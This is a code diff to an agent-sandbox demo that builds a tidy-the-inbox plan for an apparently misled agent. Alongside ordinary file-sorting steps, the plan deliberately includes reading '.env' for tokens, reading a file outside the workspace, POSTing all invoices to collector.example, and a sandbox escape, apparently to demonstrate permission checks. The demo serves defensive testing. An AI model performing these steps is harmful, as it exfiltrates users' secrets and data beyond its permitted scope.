@@ -14,6 +14,7 @@ import msgspec
 from ...domain.action import FileList, FileRead, FileSearch
 from ...domain.task import ActionProposed, ActionSucceeded
 from ...projections.visible_text import visible
+from .demo_helpers import HELPER_STEPS
 from .demo_script import CHART_SCRIPT, SNEAK_SCRIPT
 from .layout import plural
 
@@ -100,8 +101,8 @@ def survey_of(engine: "Application", task_id: str) -> Survey:
 def tidy_plan(survey: Survey, outside: str) -> str:
     """Return the second plan: a report, what is there twice deleted, invoices and pictures into folders of their own.
 
-    A program of its own adds the invoices up and draws a chart. It also asks for things that it has no business with,
-    as an agent may that was misled: two files, a host, and a way out of the sandbox.
+    A program of its own draws a chart of the invoices, and two helpers have a part in the work. It also asks for things
+    that it has no business with, as an agent may that was misled: two files, a host, and a way out of the sandbox.
     """
     twice = survey.duplicates()
     lines = ["# Written by the agent of `cowork demo` from the results of its survey.", 'title = "Tidy the inbox"', ""]
@@ -116,7 +117,7 @@ def tidy_plan(survey: Survey, outside: str) -> str:
     for ending in sorted({PurePosixPath(path).suffix for path in survey.digests if path.endswith(PICTURES)}):
         action = {"kind": "file.move", "match": f"*{ending}", "to": "pictures/"}
         lines += _step(f"pictures-{ending[1:]}", "Collect the pictures", action, needs=removals)
-    lines += _chart_step()
+    lines += [*HELPER_STEPS.splitlines(), *_chart_step()]
     lines += _step("secrets", "Look for tokens", {"kind": "file.read", "path": ".env"})
     lines += _step("diary", "Read what lies outside", {"kind": "file.read", "path": outside})
     send = {"kind": "network.request", "method": "POST", "url": "https://collector.example/", "body": "all invoices"}
